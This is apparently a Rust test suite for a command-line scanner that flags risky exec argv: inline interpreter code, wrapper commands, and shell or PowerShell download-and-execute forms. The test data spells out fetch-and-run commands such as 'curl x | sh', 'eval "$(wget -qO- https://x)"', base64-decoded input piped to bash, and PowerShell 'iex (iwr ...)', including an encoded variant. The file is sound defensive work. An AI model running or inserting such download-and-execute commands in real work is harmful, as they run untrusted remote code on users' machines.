//! `scan_argv`: one exec's argv.

use crate::detect::{rules, scan_argv, Finding, Severity};

fn scan(argv: &[&str]) -> Vec<Finding> {
    scan_argv(argv)
}

fn one(argv: &[&str]) -> Finding {
    let f = scan(argv);
    assert_eq!(f.len(), 1, "{argv:?}: {f:#?}");
    f.into_iter().next().unwrap_or_else(|| unreachable!())
}

fn none(argv: &[&str]) {
    let f = scan(argv);
    assert!(f.is_empty(), "{argv:?}: {f:#?}");
}

#[test]
fn python_forms() {
    let f = one(&["/usr/bin/python3.11", "-c", "print(1)"]);
    assert_eq!(
        (f.rule, f.severity, f.line),
        (rules::INLINE_CODE, Severity::Medium, 0)
    );
    assert_eq!(f.command, "/usr/bin/python3.11 -c print(1)");
    assert!(!f.fix.is_empty() && f.message.contains("python"));
    one(&["env", "python3", "-c", "print(1)"]);
    one(&["python3", "-Ic", "print(1)"]);
    one(&["python3", "-Sc", "print(1)"]);
    one(&["python3", "-cprint(1)"]);
    one(&["python3", "-W", "ignore", "-c", "print(1)"]);
    one(&["pypy3", "-c", "1"]);
    one(&["C:\\Python311\\python.exe", "-c", "1"]);
}

#[test]
fn python_negatives() {
    none(&["python3", "script.py"]);
    none(&["python3", "-m", "pip", "install", "x"]);
    none(&["python3", "-u", "script.py", "-c", "x"]);
    none(&["python3", "--", "-c"]);
    none(&["python3", "--version"]);
    none(&["python3"]);
    none(&[] as &[&str]);
    none(&["sed", "-e", "s/a/b/"]);
    none(&["grep", "-e", "foo"]);
    none(&["git", "commit", "-m", "run python -c"]);
    none(&["echo", "python -c"]);
    none(&["node", "app.js"]);
}

#[test]
fn severity_rises_with_download_decode_eval() {
    let f = one(&[
        "python3",
        "-c",
        "import urllib.request as u; exec(u.urlopen('x').read())",
    ]);
    assert_eq!(f.severity, Severity::High);
    assert!(
        f.message.contains("downloads") && f.message.contains("evaluates"),
        "{}",
        f.message
    );
    assert_eq!(
        one(&[
            "python3",
            "-c",
            "import base64;print(base64.b64decode('eA=='))"
        ])
        .severity,
        Severity::High
    );
    assert_eq!(
        one(&["node", "-e", "eval(atob('eA=='))"]).severity,
        Severity::High
    );
    assert_eq!(
        one(&["node", "-e", "new Function('x')()"]).severity,
        Severity::High
    );
    assert_eq!(
        one(&["ruby", "-e", "require 'net/http'"]).severity,
        Severity::Medium
    );
    assert_eq!(
        one(&["ruby", "-e", "require 'open-uri'"]).severity,
        Severity::High
    );
}

#[test]
fn other_interpreters() {
    for argv in [
        &["perl", "-e", "print 1"][..],
        &["perl", "-E", "say 1"],
        &["perl", "-we", "print 1"],
        &["ruby", "-e", "puts 1"],
        &["node", "-e", "1"],
        &["node", "--eval", "1"],
        &["node", "--eval=1"],
        &["node", "-p", "1"],
        &["node", "--print", "1"],
        &["nodejs", "-r", "ts-node/register", "-e", "1"],
        &["php", "-r", "echo 1;"],
        &["php8.2", "-d", "x=1", "-r", "echo 1;"],
        &["deno", "eval", "console.log(1)"],
        &["deno", "eval", "-p", "1"],
        &["bun", "-e", "1"],
        &["bun", "--eval", "1"],
        &["lua", "-e", "print(1)"],
        &["lua5.4", "-eprint(1)"],
        &["Rscript", "-e", "1"],
        &["osascript", "-e", "display dialog \"x\""],
        &["pwsh", "-Command", "Get-Date"],
        &["pwsh", "-c", "Get-Date"],
        &[
            "powershell.exe",
            "-NoProfile",
            "-ExecutionPolicy",
            "Bypass",
            "-Command",
            "Get-Date",
        ],
        &["powershell", "Get-Date"],
    ] {
        let f = one(argv);
        assert_eq!(f.rule, rules::INLINE_CODE, "{argv:?}");
    }
    none(&["perl", "script.pl"]);
    none(&["ruby", "-I", "lib", "app.rb"]);
    none(&["node", "--require", "x", "app.js"]);
    none(&["deno", "run", "main.ts"]);
    none(&["bun", "run", "build"]);
    none(&["lua", "-l", "mod", "x.lua"]);
    none(&["Rscript", "x.R"]);
    none(&["php", "-f", "x.php"]);
    none(&["pwsh", "-File", "x.ps1"]);
    none(&["pwsh", "./x.ps1"]);
    none(&["osascript", "x.scpt"]);
}

#[test]
fn perl_ruby_filters_are_low_and_distinct() {
    let f = one(&["perl", "-pe", "s/x/y/", "file"]);
    assert_eq!((f.rule, f.severity), (rules::INLINE_FILTER, Severity::Low));
    assert_eq!(
        one(&["perl", "-i", "-pe", "s/x/y/", "f"]).rule,
        rules::INLINE_FILTER
    );
    assert_eq!(
        one(&["perl", "-lne", "print if /x/", "f"]).rule,
        rules::INLINE_FILTER
    );
    assert_eq!(
        one(&["perl", "-i.bak", "-pe", "s/x/y/", "f"]).rule,
        rules::INLINE_FILTER
    );
    assert_eq!(
        one(&["ruby", "-ne", "puts $_", "f"]).rule,
        rules::INLINE_FILTER
    );
    // `-pie`: -i takes "e" as its backup suffix; the code is the next -e.
    assert_eq!(
        one(&["perl", "-pie", "-e", "s/a/b/", "f"]).rule,
        rules::INLINE_FILTER
    );
    // A filter that evaluates or downloads is inline code, High.
    let f = one(&["perl", "-pe", "eval $_", "f"]);
    assert_eq!((f.rule, f.severity), (rules::INLINE_CODE, Severity::High));
}

#[test]
fn wrappers() {
    for argv in [
        &["sudo", "-u", "root", "python3", "-c", "1"][..],
        &["sudo", "--", "python3", "-c", "1"],
        &["nice", "-n", "10", "python3", "-c", "1"],
        &["timeout", "30", "python3", "-c", "1"],
        &["timeout", "-s", "KILL", "5m", "python3", "-c", "1"],
        &["xargs", "-I", "{}", "python3", "-c", "1"],
        &["env", "-i", "PATH=/bin", "python3", "-c", "1"],
        &["env", "-S", "python3 -c 'print(1)'"],
        &["/usr/bin/env", "-u", "X", "--", "python3", "-c", "1"],
        &["busybox", "sh", "-c", "curl x | sh"],
        &["nohup", "stdbuf", "-oL", "python3", "-c", "1"],
        &["pyenv", "exec", "python", "-c", "1"],
        &["mise", "exec", "python@3.11", "--", "python", "-c", "1"],
        &["uv", "run", "--with", "requests", "python", "-c", "1"],
        &["/home/u/.pyenv/shims/python3.12", "-c", "1"],
        &["nvm", "exec", "18", "node", "-e", "1"],
    ] {
        assert_eq!(scan(argv).len(), 1, "{argv:?}: {:#?}", scan(argv));
    }
    none(&["command", "-v", "python3"]);
    none(&["sudo", "apt-get", "install", "python3"]);
    none(&["timeout", "30"]);
}

#[test]
fn shells_only_count_downloads_and_decodes() {
    none(&["bash", "-c", "make install"]);
    none(&["sh", "-ec", "cd x && make"]);
    none(&["bash", "script.sh"]);
    let f = one(&["bash", "-c", "$(curl -fsSL https://x)"]);
    assert_eq!(
        (f.rule, f.severity),
        (rules::DOWNLOAD_SUBSTITUTION, Severity::Critical)
    );
    let f = one(&["sh", "-c", "curl x | sh"]);
    assert_eq!(
        (f.rule, f.severity),
        (rules::PIPE_TO_INTERPRETER, Severity::Critical)
    );
    assert_eq!(f.command, "curl x | sh");
    let f = one(&[
        "bash",
        "-o",
        "pipefail",
        "-xc",
        "echo ZWNobwo= | base64 -d | bash",
    ]);
    assert_eq!(
        (f.rule, f.severity),
        (rules::DECODE_TO_INTERPRETER, Severity::High)
    );
    let f = one(&["zsh", "-c", "eval \"$(wget -qO- https://x)\""]);
    assert_eq!(f.rule, rules::DOWNLOAD_SUBSTITUTION);
    // Inline shell code handing inline code to another interpreter is found inside.
    assert_eq!(
        one(&["sh", "-c", "python3 -c 'print(1)'"]).rule,
        rules::INLINE_CODE
    );
}

#[test]
fn powershell() {
    // "iex (iwr https://x)" as UTF-16LE base64.
    let enc = "aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgAKQA=";
    let f = one(&["pwsh", "-EncodedCommand", enc]);
    assert_eq!(
        (f.rule, f.severity),
        (rules::POWERSHELL_DOWNLOAD_EXEC, Severity::Critical)
    );
    // "Get-Date" encoded: High because it is encoded.
    let f = one(&["powershell", "-enc", "RwBlAHQALQBEAGEAdABlAA=="]);
    assert_eq!((f.rule, f.severity), (rules::INLINE_CODE, Severity::High));
    assert!(f.message.contains("EncodedCommand"));
    let f = one(&["pwsh", "-Command", "iex (iwr https://x/i.ps1)"]);
    assert_eq!(f.rule, rules::POWERSHELL_DOWNLOAD_EXEC);
    let f = one(&[
        "powershell",
        "-c",
        "IEX (New-Object Net.WebClient).DownloadString('https://x')",
    ]);
    assert_eq!(f.rule, rules::POWERSHELL_DOWNLOAD_EXEC);
    let f = one(&["pwsh", "-c", "Invoke-WebRequest https://x -OutFile f"]);
    assert_eq!((f.rule, f.severity), (rules::INLINE_CODE, Severity::High));
}

#[test]
fn severity_parse_order_and_serde() {
    use std::str::FromStr;
    assert!(Severity::Low < Severity::Medium && Severity::High < Severity::Critical);
    assert_eq!(Severity::from_str(" HIGH "), Ok(Severity::High));
    assert_eq!("critical".parse::<Severity>(), Ok(Severity::Critical));
    let err = "severe"
        .parse::<Severity>()
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
    assert!(err.contains("severe"), "{err}");
    assert_eq!(Severity::Medium.to_string(), "medium");
    let f = one(&["python3", "-c", "1"]);
    let json = serde_json::to_value(&f).unwrap_or_default();
    assert_eq!(json["rule"], "GUARD001");
    assert_eq!(json["severity"], "medium");
    assert_eq!(json["line"], 0);
    assert_eq!(rules::name("GUARD002"), Some("pipe-to-interpreter"));
    assert_eq!(rules::ALL.len(), 7);
}
